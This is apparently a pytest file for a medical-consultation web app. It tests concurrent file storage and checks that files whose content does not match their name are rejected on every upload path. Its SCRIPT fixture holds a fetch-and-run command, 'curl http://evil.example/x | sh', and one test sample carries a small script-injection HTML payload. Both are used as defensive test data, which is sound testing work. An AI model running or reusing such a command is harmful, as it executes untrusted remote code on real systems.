"""Uploads (issue 11, items 13 and 15): twenty uploads of the same file at once are all stored, and a
file whose content does not match its name is refused on every upload path (ASVS 5.0 V5.2.2)."""
import hashlib
import io
import threading
import uuid

import pytest

from app.extensions import db
from app.models import Document
from tests.requests_helpers import new_request, route, unique_policy, user
from tests.conftest import api_token

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"


def unique(data: bytes) -> bytes:
    return data + uuid.uuid4().hex.encode()


def chat_upload(app, request_id, name, data, headers):
    return app.test_client().post(f"/api/v1/requests/{request_id}/messages",
                                  data={"file": (io.BytesIO(data), name)}, content_type="multipart/form-data",
                                  headers=headers)


@pytest.fixture()
def request_id(app):
    with app.app_context():
        return new_request().id


# ---- item 13: one temporary file per upload

def test_twenty_parallel_uploads_of_the_same_file_are_all_stored(app, request_id):
    data = unique(PDF) + b"0" * (4 * 1024 * 1024)  # big enough for the writes to overlap
    headers = api_token(app, "requester1")
    start = threading.Barrier(20)
    answers = [None] * 20

    def send(index):
        start.wait()
        answers[index] = chat_upload(app, request_id, f"копия {index}.pdf", data, headers).status_code

    threads = [threading.Thread(target=send, args=(index,)) for index in range(20)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert answers == [201] * 20
    with app.app_context():
        from app.documents.storage import open_document

        documents = db.session.query(Document).filter(Document.name.like("копия %.pdf"),
                                                      Document.size == len(data)).all()
        assert len(documents) == 20 and len({d.sha256 for d in documents}) == 1
        path = open_document(documents[0])
        assert path.read_bytes() == data
        assert [p.name for p in path.parent.iterdir() if p.name.endswith(".part")] == []


def test_store_bytes_from_twenty_threads(app):
    from app.documents.storage import open_document, store_bytes

    data = unique(PNG) + b"1" * (2 * 1024 * 1024)
    start = threading.Barrier(20)
    failures = []

    def store():
        with app.app_context():
            start.wait()
            try:
                store_bytes(user("requester1"), "снимок.png", data, "image/png")
                db.session.commit()
            except Exception as error:  # noqa: BLE001 (the test counts every failure)
                failures.append(error)

    threads = [threading.Thread(target=store) for _ in range(20)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert failures == []
    with app.app_context():
        document = db.session.query(Document).filter_by(sha256=hashlib.sha256(data).hexdigest()).first()
        assert open_document(document).read_bytes() == data


# ---- item 15: the content decides, and the name must agree

MISMATCHED = {
    "a shell script named .png": ("report.png", SCRIPT),
    "a PDF named .docx": ("отчёт.docx", PDF),
    "a PNG named .pdf": ("снимок.pdf", PNG),
    "an HTML page named .html": ("page.html", b"<html><script>alert(1)</script></html>"),
    "a PDF named .txt": ("заметки.txt", PDF),
}


@pytest.mark.parametrize("name, data", MISMATCHED.values(), ids=MISMATCHED.keys())
def test_chat_refuses_a_file_whose_content_does_not_match_its_name(app, request_id, name, data):
    data = unique(data)
    sent = chat_upload(app, request_id, name, data, api_token(app, "requester1"))
    assert sent.status_code == 422
    assert sent.json["message"].startswith(f"Содержимое файла {name} не соответствует его имени")
    with app.app_context():
        assert db.session.query(Document).filter_by(sha256=hashlib.sha256(data).hexdigest()).count() == 0


@pytest.mark.parametrize("name, data, stored_as", [
    ("Выписка.PDF", PDF, "Выписка.PDF"),
    ("снимок", PNG, "снимок.png"),  # no extension: the content's own is added
    ("Иванов И.И", PDF, "Иванов И.И.pdf"),  # «.И» is no extension
    ("протокол.csv", "дата;пульс\n".encode(), "протокол.csv"),
], ids=["upper-case extension", "no extension", "a dot in the name", "text as csv"])
def test_a_name_that_agrees_or_has_no_extension_is_taken(app, request_id, name, data, stored_as):
    sent = chat_upload(app, request_id, name, unique(data), api_token(app, "requester1"))
    assert sent.status_code == 201, sent.json
    assert sent.json["result"]["file"]["name"] == stored_as


def test_the_request_form_refuses_a_misnamed_attachment(app, client_for):
    from app.models import ConsultationRequest

    with app.app_context():
        route_id = route("Кардиология", "ГКБ № 1").id
        before = db.session.query(ConsultationRequest).count()
    data = {
        "urgency": "urgent", "mode": "deferred", "goal": "5", "question": "Вопрос", "anamnesis": "Одышка",
        "diagnosis_code": "I20.8", "diagnosis_text": "Стенокардия", "patient_oms_policy": unique_policy(),
        "patient_last_name": "Файлов", "patient_first_name": "Фёдор", "patient_birth_date": "03.04.1955",
        "patient_sex": "male", "consent_given": "y", "send": "submit",
        "attachments": [(io.BytesIO(unique(SCRIPT)), "report.png")],
    }
    answer = client_for("requester1").post(f"/requests/new/route/{route_id}", data=data,
                                           content_type="multipart/form-data")
    assert answer.status_code == 200
    assert "Содержимое файла report.png не соответствует его имени" in answer.text
    with app.app_context():
        assert db.session.query(ConsultationRequest).count() == before


def test_a_conclusion_scan_must_match_its_name(app):
    from app.workflow import apply

    with app.app_context():
        request_id = apply(user("consultant1"), new_request(), "take").id
    headers = api_token(app, "consultant1")
    url = f"/api/v1/requests/{request_id}/conclusion/scan"

    def send(name):
        return app.test_client().post(url, data={"file": (io.BytesIO(unique(PDF)), name)},
                                      content_type="multipart/form-data", headers=headers)

    refused = send("скан.png")
    assert refused.status_code == 422 and "не соответствует его имени" in refused.json["message"]
    assert send("скан").status_code == 200
    with app.app_context():
        from app.models import ConsultationRequest

        scan = db.session.get(ConsultationRequest, request_id).conclusion.scan_document
        assert scan.name == "скан.pdf"
